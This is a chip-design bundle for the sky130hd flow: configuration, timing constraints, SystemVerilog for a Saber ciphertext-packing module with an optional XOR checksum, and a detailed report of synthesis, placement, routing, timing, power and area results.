==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = pack_cm
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/pack_cm.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_MARGIN = 5
export CORE_UTILIZATION = 35
export CTS_CLUSTER_DIAMETER = 120
export CTS_CLUSTER_SIZE = 24
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.57
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 3 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.3 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.3 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
==> src/rtl/pack_cm.sv <==
// Saber ciphertext compressor: rounds v' against the message bits and packs 4-bit cm nibbles.
// Optional CM_CHECKSUM_EN adds cm_checksum, the XOR of every word written in the current run.
module pack_cm (
    input  logic        clk,
    input  logic        rst,
    input  logic        start,
    output logic        read_base_sel,
    output logic [8:0]  read_address,
    input  logic [63:0] read_data,
    output logic [8:0]  write_address,
    output logic [63:0] write_data,
    output logic        write_en,
    output logic        done
`ifdef CM_CHECKSUM_EN
    ,
    output logic [63:0] cm_checksum
`endif
);

    localparam int unsigned EP = 10;
    localparam int unsigned ET = 4;
    localparam logic [EP-1:0] H1 = 10'd4;

    localparam logic [2:0] StIdle    = 3'd0;
    localparam logic [2:0] StFetchM  = 3'd1;
    localparam logic [2:0] StLoadM   = 3'd2;
    localparam logic [2:0] StLoadV   = 3'd3;
    localparam logic [2:0] StCompute = 3'd4;
    localparam logic [2:0] StStore   = 3'd5;
    localparam logic [2:0] StDone    = 3'd6;

    logic [2:0]      state;
    logic [8:0]      v_addr;
    logic [63:0]     m_buffer;
    logic [4*EP-1:0] v_buffer;   // only the 10 live bits of each 16-bit lane are kept
    logic [63:0]     cm_buffer;
    logic [15:0]     cm_next;
    logic [EP-1:0]   sum [4];

    always_comb begin
        cm_next = '0;
        for (int k = 0; k < 4; k++) begin
            sum[k] = v_buffer[EP*k +: EP] + H1 - {m_buffer[k], {(EP-1){1'b0}}};
            cm_next[ET*k +: ET] = sum[k][EP-1 -: ET];
        end
    end

    always_comb begin
        read_base_sel = (state == StFetchM);
        if (read_base_sel) begin
            read_address = {4'd0, v_addr[8:4]};
        end else begin
            read_address = {3'd0, v_addr[5:0]};
        end
        write_en   = (state == StStore);
        write_data = cm_buffer;
        done       = (state == StDone);
    end

    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            state         <= StIdle;
            v_addr        <= '0;
            write_address <= '0;
            m_buffer      <= '0;
            v_buffer      <= '0;
            cm_buffer     <= '0;
        end else begin
            unique case (state)
                StIdle, StDone: begin
                    if (start) begin
                        state         <= StFetchM;
                        v_addr        <= '0;
                        write_address <= '0;
                    end
                end
                StFetchM: state <= StLoadM;
                StLoadM: begin
                    m_buffer <= read_data;
                    state    <= StLoadV;
                end
                StLoadV: begin
                    v_buffer <= {read_data[57:48], read_data[41:32], read_data[25:16],
                                 read_data[9:0]};
                    v_addr   <= v_addr + 9'd1;
                    state    <= StCompute;
                end
                StCompute: begin
                    cm_buffer <= {cm_next, cm_buffer[63:16]};
                    m_buffer  <= m_buffer >> 4;
                    state     <= (v_addr[1:0] == 2'd0) ? StStore : StLoadV;
                end
                StStore: begin
                    write_address <= write_address + 9'd1;
                    if (v_addr == 9'd64) begin
                        state <= StDone;
                    end else if (v_addr[3:0] == 4'd0) begin
                        state <= StFetchM;
                    end else begin
                        state <= StLoadV;
                    end
                end
                default: state <= StIdle;
            endcase
        end
    end

`ifdef CM_CHECKSUM_EN
    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            cm_checksum <= '0;
        end else if ((state == StIdle || state == StDone) && start) begin
            cm_checksum <= '0;
        end else if (state == StStore) begin
            cm_checksum <= cm_checksum ^ cm_buffer;
        end
    end
`endif

endmodule
==> metrics.cfg <==
[status]
status=finished clean

[routing]
drt-total-wl_um=23500
drtIter0Drc=464
wire_per_inst_um=16.0
drc=0
vias=7025
dr.pass1.iters=4
drt.antenna.violating_nets=0
viasPerCell=4.79

[place]
placed_cells=1435
port_buffers=148
hpwl_um=17400
dp_worst_setup_slack_ns=0.393
place_congestion=0.776
dpl_cell_area_um2=10800

[cts]
clk_latency_ns=0.43
cts.path.max_buffers=2
cts_tree=done
cts.htree.levels=4
cts.sink_count=185
path_clk_slew_ns=0.07
cts_buffers=17
cts-root-buf=clkbuf_16

[critical_path]
cp_num_cells=3
r2r_cells=5
cp_slowest_cell=clkdlybuf4s50_1
start_kind=flop
required_ns=2.55
critPathMaxStageDelay_ns=0.70
worstPathCellList=nor3_4, mux2_2, clkdlybuf4s50_1
cpLargestDelayFamily=buffers and inverters
cp_max_fo=9
critPathCaptureType=output port
crit_buf_inv=1
r2r_slack_ns=0.55
critPathKind=flop to output port
worstPathArrival_ns=2.37

[floorplanning]
die_area_um2=28600
rows=58
die_height_um=169
initial_utilization=0.354
die_w_um=169
core_area_um2=25000
num_io_pins=152

[global_routing]
grt_max_degree=102
grt.total_usage=0.165
grt_pass1_wl_um=37800
grt_pass1_vias=7019
antenna_found_initial=1
grt_overflow=0

[cells_and_area]
final_nets=1231
final_cells=1468
layout-drive-gt1-share=0.0501
finalInstanceArea_um2=11500
utilization=0.457
antenna_cells=0
area_delta_synth_final_pct=29.1

[sta]
drv_slew=0
fmax_mhz=355
rsz0062_at_grt=false
fin_tns_setup_ns=0
hold_violations=0
fin_crit_ns=2.82
holdWs_ns=0.281
worst_pin_slew_ns=0.774
setup_viol=0
final.setup.worst_slack_ns=0.181
maxSlewHeadroom=0.484
period_share=0.940

[synth]
yosysTopAreaCell=dfrtp_1
netlist_area_um2=8870
avgSynthCellArea_um2=9.30
synthesis.instances=954
ys.flop_type=dfrtp_1
ys_warn_count=0
synth.area.top_cells=dfrtp_1, nand2_1, mux2i_1, o21ai_0, ha_1
synthArstFlopShare=1.00
yosysSeqAreaShare=0.522
synth-edff-count=0
synth_cell_types=43
ys_ff_latch=185
synth_top_area_frac=0.522

[power_and_ir_drop]
p_leak_nw=5.43
peakVddDrop_mv=0.366
finalPower_mw=7.07
cellPowerDensity_nw_per_um2=617

[worst_hold_path]
holdPathStages=3
hp-class=input port to flop

[run]
max_cap_viol_count=0

synthesized netlist by cell type (2+ instances only):
master    instances
a211o_1           3
a21o_1            4
a21oi_1          10
a22o_1            8
a31oi_1           8
a32oi_1           3
and2_1            5
and3_1            3
buf_2            15
buf_4             3
clkbuf_1         30
dfrtp_1         185
ha_1             39
inv_1            38
mux2_2            3
mux2i_1          61
nand2_1         300
nand2b_1          2
nand3_1          12
nand4_1           5
nor2_1           23
nor2b_1           3
nor3b_1           4
o2111a_1          3
o211ai_1          4
o21a_1            3
o21ai_0         118
o21ai_1          20
o311ai_0          3
o31ai_1           4
xnor2_1          15
xor2_1            6
where the power goes:
| part | switching (mW) | total (mW) | internal, mW |
|---|---|---|---|
| combinational | 1.12 | 1.70 | 0.584 |
| clock | 1.01 | 2.41 | 1.40 |
| sequential | 0.202 | 2.96 | 2.75 |
flip-flops by register name, indices dropped and copies added (netlist names):
| name | flops |
|---|---|
| state | 3 |
| write_data | 64 |
| v_buffer | 36 |
| m_buffer | 64 |
| write_address | 9 |
| v_addr | 9 |
area by class of cell:
class,instances,area (µm²)
fillers,2458,13600
flip-flops and latches,185,4630
multi-input cells,683,3900
repair buffers,150,1520
clock buffers,21,470
well taps,330,413
plain buffers,48,210
clock inverters,11,158
inverters,40,150
layout by cell type, fill, tap and decap left out, types with 6 or more instances in the layout:
master and n:
buf_2 15, a22o_1 8, clkbuf_1 31, nor2_1 23, inv_1 38, xor2_1 6
a31oi_1 8, clkdlybuf4s50_1 146, a21oi_1 10, o21ai_1 20, o21ai_0 118, dfrtp_1 185
clkbuf_16 17, mux2i_1 61, xnor2_1 15, ha_1 39, nand3_1 12, nand2_1 300
final timing paths:
kind,to,startpoint
worst max-delay path,read_address[2],state[1]
min in group asynchronous,write_data[7],rst
worst max register to register,m_buffer[5],state[1]
worst min register to register,write_data[4],write_data[4]
worst min-delay path,v_buffer[22],read_data[34]
max in group asynchronous,write_data[46],rst
what timing repair did:
action,CTS,global route
resized for setup,1,2
endpoints found under the hold margin,84,0
hold buffers,1,0
setup buffers,0,0
setup endpoints to repair,1,5
per-layer routing:
metal	wire length, µm	GRT usage
met5	13	0
met4	242	0.0417
met3	1140	0.0333
met2	10600	0.257
met1	11500	0.239
logic make-up after synthesis:
logic type,count (synthesis),share of synthesized area
AND/OR/NAND/NOR,363,0.164
AO/OA/AOI/OAI,193,0.124
flip-flops,185,0.522
buffers and inverters,88,0.0406
multiplexers,64,0.0726
adder cells (fa/ha/maj),39,0.0550
XOR/XNOR,21,0.0207
other,1,0.000423
worst min-delay path, cell delays in order:
cell	delay [ns]
clkdlybuf4s50_1	0.42
nand2_1	0.07
nand2_1	0.04
(Power assumes the default switching activity.)
